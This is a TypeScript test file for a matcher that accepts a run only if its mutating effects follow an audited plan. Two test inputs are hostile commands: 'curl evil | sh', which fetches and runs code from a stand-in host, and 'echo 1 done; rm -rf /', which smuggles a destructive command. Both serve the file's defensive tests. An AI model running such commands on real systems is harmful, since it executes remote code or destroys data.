// A run after an audit may do less than the plan listed, never more or other: the matcher takes
// the run's mutating effects as a subsequence of the plan's, placeholders matching any text.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { Expectation, isMutating, wildcard } from '../../core/expectation.ts';
import { RefusedError } from '../../core/errors.ts';
import type { Effect } from '../../core/effects.ts';

const exec = (command: string, sudo = false): Effect => ({ kind: 'exec', host: 'local', command, sudo });
const write = (path: string, content: string, extra: Partial<Extract<Effect, { kind: 'write' }>> = {}): Effect => ({
  kind: 'write',
  host: 'local',
  path,
  mode: '0644',
  sudo: false,
  exists: false,
  sha256: `sha-${content}`,
  bytes: content.length,
  content,
  ...extra,
});
const probe = (command: string): Effect => ({ kind: 'probe', host: 'local', command, readOnly: true });

function refused(fn: () => void): RefusedError {
  try {
    fn();
  } catch (e) {
    assert.ok(e instanceof RefusedError);
    return e;
  }
  assert.fail('expected a refusal');
}

describe('Expectation', () => {
  it('accepts exactly the planned effects in order', () => {
    const x = new Expectation([exec('a'), exec('b'), write('/f', 'x')]);
    x.match('s', exec('a'));
    x.match('s', exec('b'));
    x.match('s', write('/f', 'x'));
  });

  it('accepts a subsequence: a run may do less', () => {
    const x = new Expectation([exec('a'), exec('b'), exec('c')]);
    x.match('s', exec('a'));
    x.match('s', exec('c'));
  });

  it('refuses an effect the plan did not list, naming the step and the effect', () => {
    const x = new Expectation([exec('a')]);
    const e = refused(() => x.match('install', exec('curl evil | sh')));
    assert.equal(e.reason, 'PLAN_DRIFTED');
    assert.equal(e.exitCode, 3);
    assert.match(e.message, /step 'install' would run: curl evil \| sh, which the audited plan did not list/);
  });

  it('refuses going back: order matters', () => {
    const x = new Expectation([exec('a'), exec('b')]);
    x.match('s', exec('b'));
    refused(() => x.match('s', exec('a')));
  });

  it('refuses doing a planned effect twice', () => {
    const x = new Expectation([exec('a')]);
    x.match('s', exec('a'));
    refused(() => x.match('s', exec('a')));
  });

  it('refuses the same command with sudo, another host, mode or content', () => {
    refused(() => new Expectation([exec('a')]).match('s', exec('a', true)));
    refused(() => new Expectation([exec('a')]).match('s', { ...exec('a'), host: 'ssh:root@10.0.0.2:22' } as Effect));
    refused(() => new Expectation([write('/f', 'x')]).match('s', write('/f', 'x', { mode: '0777' })));
    refused(() => new Expectation([write('/f', 'x')]).match('s', write('/f', 'y')));
    refused(() => new Expectation([write('/f', 'x')]).match('s', write('/g', 'x')));
  });

  it('ignores read-only effects on both sides', () => {
    const x = new Expectation([probe('x'), exec('a')]);
    x.match('s', probe('something else entirely'));
    x.match('s', write('/f', 'x', { unchanged: true }));
    x.match('s', { kind: 'remove', host: 'local', path: '/gone', sudo: false, exists: false });
    x.match('s', exec('a'));
  });

  it('placeholders in the plan stand for any text', () => {
    const x = new Expectation([exec('kubeadm join <output of init> --token <output of token#2>'), write('/etc/kubeconfig', 'server: <output of vm>\n')]);
    x.match('s', exec('kubeadm join 10.0.0.2:6443 --token abc.def'));
    x.match('s', write('/etc/kubeconfig', 'server: https://10.0.0.2:6443\n'));
  });

  it('a placeholder does not make the rest of the text optional', () => {
    const x = new Expectation([exec('echo <output of a> done')]);
    refused(() => x.match('s', exec('echo 1 done; rm -rf /')));
    refused(() => x.match('s', exec('prefix echo 1 done')));
  });
});

describe('wildcard', () => {
  it('is plain equality without placeholders, regex characters included', () => {
    assert.equal(wildcard('a.b*c', 'a.b*c'), true);
    assert.equal(wildcard('a.b*c', 'aXbbbc'), false);
  });

  it('matches placeholders across lines and special characters', () => {
    assert.equal(wildcard('x=<output of s>;y=(<output of t>)', 'x=1\n2;y=(a|b)'), true);
    assert.equal(wildcard('<output of s>', ''), true);
    assert.equal(wildcard('[<output of s>]', 'x'), false);
  });

  it('a placeholder quoted as a word in a command stands for the value quoted or not', () => {
    assert.equal(wildcard("ssh docker@'<output of vm>' true", 'ssh docker@192.168.39.5 true'), true);
    assert.equal(wildcard("wait '<output of vm>' 400", "wait 'a b' 400"), true);
    assert.equal(wildcard("wait '<output of vm>' 400", 'wait 10.0.0.1 401'), false);
  });
});

describe('isMutating', () => {
  it('counts only effects that change something', () => {
    assert.equal(isMutating(exec('a')), true);
    assert.equal(isMutating(probe('a')), false);
    assert.equal(isMutating(write('/f', 'x')), true);
    assert.equal(isMutating(write('/f', 'x', { unchanged: true })), false);
    assert.equal(isMutating({ kind: 'remove', host: 'local', path: '/x', sudo: false, exists: true }), true);
    assert.equal(isMutating({ kind: 'listen', host: 'local', port: 1, protocol: 'tcp', address: '0.0.0.0', component: 'x' }), false);
    assert.equal(isMutating({ kind: 'download', host: 'local', url: 'http://x', path: '/c', cached: true }), false);
  });
});
